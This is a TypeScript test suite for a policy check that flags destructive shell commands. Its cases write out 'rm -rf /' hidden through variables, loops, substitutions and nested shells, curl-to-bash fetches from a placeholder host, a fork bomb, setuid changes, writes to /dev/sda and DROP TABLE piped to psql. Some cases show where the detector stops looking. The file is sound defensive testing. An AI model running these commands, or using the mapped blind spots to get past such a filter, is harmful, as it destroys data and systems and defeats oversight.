import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import { destructionInText } from '../../policy/destruction.ts';

const test = suite('destruction is seen through what carries it');

/** A word with a dollar sign and a brace, which this language would read for itself. */
const braced = (inside: string) => ['$', `{${inside}}`].join('');

const seen = (text: string): string | undefined => destructionInText(text)?.rule;

test('variables and loops of the same text', () => {
  const texts = [
    'D=/; rm -rf $D',
    `export D=/etc; rm -rf "${braced('D')}"`,
    'for d in / ; do rm -rf $d; done',
    'for d in /srv/x /srv/y /usr; do rm -rf "$d"; done',
    `rm -rf ${braced('HOME:-/')}`,
    'A=1; B=/; rm -rf $B',
  ];
  for (const text of texts) assert.is(seen(text), 'destruction.rm', text);
  for (const text of [
    'D=/srv/x; rm -rf $D/y',
    'for d in /srv/x; do rm -rf $d/y; done',
    'rm -rf $D',
    'D=/ rm x; ls $D',
  ]) {
    assert.is(seen(text), undefined, text);
  }
});

test('as many variables, values and words as are looked at, and no more', () => {
  const many = Array.from({ length: 40 }, (_, i) => `V${i}=/srv/${i}`).join('; ');
  assert.is(seen(`${many}; rm -rf $V3`), undefined);
  assert.is(seen(`V3=/srv; ${many}; V3=/; rm -rf $V3`), 'destruction.rm');
  assert.is(seen(`for d in ${'/srv/x '.repeat(20)}/; do rm -rf $d; done`), undefined);
});

test('a redirect or braces before the name', () => {
  assert.is(seen('</dev/null rm -rf /'), 'destruction.rm');
  assert.is(seen('2>&1 < /srv/x rm -rf /etc'), 'destruction.rm');
  assert.is(seen('{rm,-rf,/}'), 'destruction.rm');
  assert.is(seen('curl -o /srv/a http://x/a; sh < /srv/a'), 'destruction.remote-code');
  assert.is(seen('{echo,rm}'), undefined);
});

test('what a pipe brings is run only by what takes its program from there', () => {
  for (const text of [
    'curl -s http://x/a | tee /srv/a | bash',
    'curl http://x/a | sh -s -- now',
    'curl http://x/a | python3 -',
    'curl http://x/a | bash /dev/stdin now',
    "curl http://x/a | xargs -I{} sh -c '{}'",
    "curl http://x/a | python3 -c 'import sys; exec(sys.stdin.read())'",
    'base64 -d /srv/a | gzip -dc | sudo bash',
  ]) {
    assert.is(seen(text), 'destruction.remote-code', text);
  }
  for (const text of [
    'curl -s http://x/a | python3 -m json.tool',
    'curl -s http://x/a | python3 /srv/count.py',
    "curl -s http://x/a | perl -e 'print scalar <>'",
    'cat /srv/a | grep x | wc -l',
  ]) {
    assert.is(seen(text), undefined, text);
  }
});

test('what is printed into a crontab, into a shell or in a substitution', () => {
  assert.is(seen("echo '* * * * * curl http://x/a | sh' | crontab -"), 'destruction.remote-code');
  assert.is(seen("echo '@reboot rm -rf /' | crontab -"), 'destruction.rm');
  assert.is(seen("echo '5 4 * * * /srv/backup' | crontab -"), undefined);
  assert.is(seen('$(echo rm) -rf /'), 'destruction.rm');
  assert.is(seen('eval `printf "rm -rf /"`'), 'destruction.rm');
  assert.is(seen("vim -c ':!rm -rf /' -c q"), 'destruction.rm');
  assert.is(seen("perl -e 'fork while fork'"), 'destruction.fork-bomb');
});

test('what find hands to xargs is everything below its folders', () => {
  assert.is(seen('find / -print0 | xargs -0 rm -f'), 'destruction.rm');
  assert.is(seen('find /etc -type f | xargs chmod 600'), 'destruction.permissions');
  assert.is(seen("find /srv/cache -name '*.tmp' | xargs rm -f"), undefined);
});

test('input goes through filters, formats, containers, placeholders and loops', () => {
  for (const text of [
    "printf '%s -rf %s' rm /etc | sh",
    "printf '%s %s\\n' a b DROP 'TABLE t' | psql",
    "echo 'drop table t' | sed s/t/u/ | tee /tmp/x | sudo -u postgres psql",
    "echo 'drop table t; select 1' | kubectl exec -i db-0 -- psql",
    'psql <<-E\n\tselect 1;\n\tdrop table t;\n\tE',
    'echo / | xargs -I % rm -rf %',
    'echo /etc | xargs -IX sh -c "rm -rf X"',
    'printf /etc | parallel rm -rf {}',
    'echo / | while read -r d; do rm -rf $d; done',
    "echo 'rm -rf /etc' | ssh -p 22 db01",
    "echo 'rm -rf /etc' | doas -s",
    "echo '!rm -rf /etc' | lftp",
    'A=x; for d in /srv /; do rm -rf $A $d; done',
    'D=/; rm -rf $D $UNKNOWN',
  ]) {
    assert.ok(seen(text), text);
  }
  for (const text of [
    "echo 'select 1' | psql",
    "echo 'delete from t where id = 7' | psql",
    "echo 'rm -rf /etc' | ssh db01 cat",
    "echo 'rm -rf /etc' | su -c id",
    'echo hello | nc db01 80',
    "echo '' | nc db01 80",
    'echo 7 | nc db01 80',
    'psql <<E',
    'echo /srv/x | xargs rm -f',
    'echo 7 | while read -r d; do ls $d; done',
    'echo x | read',
    `${'cat <<E\nx\nE\n'.repeat(9)}psql <<E\nselect 1\nE`,
  ]) {
    assert.is(seen(text), undefined, text);
  }
});

test('setuid by its modes, its copies and its scripts', () => {
  for (const text of [
    'chmod u+s,g-w x',
    'install -m4755 a b',
    'install -m 4755 a b',
    'mkdir --mode=u+s a',
    'cp -a /usr/bin/su /srv/s',
  ]) {
    assert.is(seen(text), 'destruction.setuid', text);
  }
  for (const text of [
    'chmod 0755 x',
    'chmod u+x x',
    'install -m 755 a b',
    'cp /usr/bin/su /srv/s',
    'cp -a /srv/su /srv/s',
    'mount -o nosuid /srv',
  ])
    assert.is(seen(text), undefined, text);
});

test('as many commands and as deep as is looked at, and no more', () => {
  const nested = (inner: string, depth: number): string =>
    depth === 0 ? inner : nested(`sh -c '${inner.replaceAll("'", "'\\''")}'`, depth - 1);
  assert.is(seen(nested('rm -rf /', 5)), 'destruction.rm');
  assert.is(seen(nested('echo rm -rf / | sh', 6)), undefined);
  assert.is(seen(nested('echo rm -rf / | xargs sh', 6)), undefined);
  const many = Array.from({ length: 900 }, () => "sh -c 'a;a'").join(';');
  assert.is(seen(`rm -rf /; ${many}`), 'destruction.rm');
  assert.is(seen(`${many}; rm -rf /`), undefined);
  const images = Array.from({ length: 600 }, () => `echo b | docker exec web sh -c ${'a'.repeat(20)}`).join(';');
  assert.is(seen(images), undefined);
  const places = `echo ${'a '.repeat(64)}| xargs -I{} ${'sudo '.repeat(14)}ls ${'{} '.repeat(20)}`;
  assert.is(seen(places), undefined);
  assert.is(seen(`${places}; rm -rf /`), undefined);
});

test('a serial line may be written with consent, a disk may not', () => {
  assert.is(seen('echo AT > /dev/ttyUSB0'), undefined);
  assert.is(seen('echo AT > /dev/sda'), 'destruction.device');
});

test.run();
